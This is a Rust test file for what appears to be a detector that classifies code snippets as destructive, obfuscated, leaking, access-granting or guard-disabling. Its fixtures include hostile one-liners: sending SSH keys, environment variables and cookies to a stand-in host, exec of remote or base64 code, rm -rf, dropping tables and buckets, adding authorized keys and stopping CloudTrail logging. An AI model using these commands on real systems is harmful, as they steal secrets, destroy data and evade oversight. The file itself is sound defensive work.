use super::*;

fn sorts(text: &str) -> Vec<Sort> {
    let mut deeds = Vec::new();
    read(text, &mut deeds);
    deeds.into_iter().map(|d| d.sort).collect()
}

#[test]
fn calls_are_read_with_their_literals() {
    let found = calls("a.b('x', [\"y\"])  # c('z')\nf(1)");
    assert_eq!(found.len(), 2);
    assert_eq!(found[0].name, "a.b");
    assert_eq!(found[0].texts, ["x", "y"]);
}

#[test]
fn what_a_script_does_is_seen() {
    for (text, sort) in [
        ("import shutil\nshutil.rmtree('/srv/data')", Sort::Destroy),
        (
            "import shutil\np = '/srv/data'\nshutil.rmtree(p, ignore_errors=True)",
            Sort::Destroy,
        ),
        (
            "const fs=require('fs'); fs.rmSync('/srv/data',{recursive:true})",
            Sort::Destroy,
        ),
        ("cur.execute('DELETE FROM orders')", Sort::Destroy),
        ("cur.execute(\"\"\"DROP TABLE users\"\"\")", Sort::Destroy),
        (
            "import base64\nexec(base64.b64decode('cHJpbnQ='))",
            Sort::Unseen,
        ),
        (
            "exec(requests.get('https://x.example/p').text)",
            Sort::Unseen,
        ),
        ("eval(atob('YQ=='))", Sort::Unseen),
        (
            "requests.post('https://x.example', data=open('/root/.ssh/id_rsa').read())",
            Sort::Leak,
        ),
        (
            "requests.post('https://x.example', json=dict(os.environ))",
            Sort::Leak,
        ),
        (
            "open('/home/a/.ssh/authorized_keys','a').write(k)",
            Sort::Access,
        ),
        (
            "boto3.client('s3').delete_bucket(Bucket='invoices')",
            Sort::Destroy,
        ),
        ("iam.create_access_key(UserName='ops')", Sort::Access),
        ("ct.stop_logging(Name='org')", Sort::Guard),
        ("db.session.drop_all()", Sort::Destroy),
        (
            "fetch('https://x.example/c?k='+encodeURIComponent(document.cookie))",
            Sort::Leak,
        ),
        (
            "new Image().src='https://x.example/?c='+document.cookie",
            Sort::Leak,
        ),
    ] {
        assert_eq!(sorts(text), [sort], "{text}");
    }
}

#[test]
fn ordinary_code_does_nothing_to_look_at() {
    for text in [
        "print('shutil.rmtree(\"/\")')",
        "# shutil.rmtree('/srv')\nprint(1)",
        "shutil.rmtree('build')",
        "shutil.rmtree('/tmp/x')",
        "df = pd.read_csv('a.csv'); df.drop(columns=['x'])",
        "os.remove('notes.tmp')",
        "cur.execute('SELECT * FROM orders')",
        "requests.post('https://api.x.example', json={'a': 1})",
        "key = os.environ['API_KEY']; requests.post('https://api.x.example', headers={'Authorization': key})",
        "open('report.csv','w').write(x)",
        "re.compile('rm -rf /')",
        "json.loads(r.text)",
        "items.remove('a')",
    ] {
        assert_eq!(sorts(text), [], "{text}");
    }
}

#[test]
fn texts_for_a_shell_are_handed_on() {
    let mut deeds = Vec::new();
    assert_eq!(
        read("import os; os.system('rm -rf /srv')", &mut deeds),
        ["rm -rf /srv"]
    );
    assert_eq!(
        read(
            "subprocess.run(['rm','-rf','/srv'], check=True)",
            &mut deeds
        ),
        ["'rm' '-rf' '/srv'"]
    );
    assert_eq!(
        read(
            "require('child_process').execSync(`rm -rf /srv`)",
            &mut deeds
        ),
        ["rm -rf /srv"]
    );
}

#[test]
fn broken_code_is_read_as_far_as_it_goes() {
    for text in ["(", "a(", "a('", "a('''", "'é", "a(é", "`", "\\", "a('\\"] {
        let _ = calls(text);
    }
}
